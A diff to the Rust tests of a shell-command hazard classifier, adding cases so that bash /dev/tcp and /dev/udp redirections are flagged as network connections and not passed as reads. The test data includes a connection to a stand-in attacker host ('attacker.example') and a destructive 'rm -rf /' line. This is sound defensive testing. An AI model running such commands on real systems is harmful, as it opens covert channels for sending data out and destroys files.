@@ -132,6 +132,27 @@ fn redirections_are_classified() {
     ] {
         assert_eq!(hazards(line), [None], "{line}");
     }
+    // bash's network paths are connections, read or written (the attack of issue 45: `cat <
+    // /dev/tcp/…` passed for a read, and DNS carried data out).
+    for (line, target) in [
+        ("cat < /dev/tcp/example.com/80", "/dev/tcp/example.com/80"),
+        ("cat 0< /dev/udp/1.2.3.4/53", "/dev/udp/1.2.3.4/53"),
+        ("cat <&/dev/tcp/h/1", "/dev/tcp/h/1"),
+        ("echo x > /dev/tcp/h/1", "/dev/tcp/h/1"),
+        ("exec 3<>/dev/tcp/h/1", "/dev/tcp/h/1"),
+        ("cat < '/dev/tcp/h'/1", "'/dev/tcp/h'/1"),
+    ] {
+        assert_eq!(
+            hazards(line),
+            [Some(Hazard::Network(target.into()))],
+            "{line}"
+        );
+    }
+    // A path only known at run time may be one.
+    assert_eq!(
+        hazards("cat < $F"),
+        [Some(Hazard::DynamicPath("$F".into()))]
+    );
     assert_eq!(hazards("> made"), [Some(Hazard::WritesFile("made".into()))]);
     assert_eq!(hazards("ls > $F"), [Some(Hazard::WritesFile("$F".into()))]);
     assert!(matches!(parse("ls >"), Err(ParseError::Syntax(_))));
@@ -323,6 +344,9 @@ fn read_only_lines() {
 #[test]
 fn not_read_only_lines() {
     for line in [
+        "cat < /dev/tcp/attacker.example/80",
+        "head -c 100 < /dev/udp/10.0.0.1/53",
+        "wc -l < \"$HOME/../../dev/tcp/h/1\"",
         "",
         "# only a comment",
         "ls; rm -rf /",
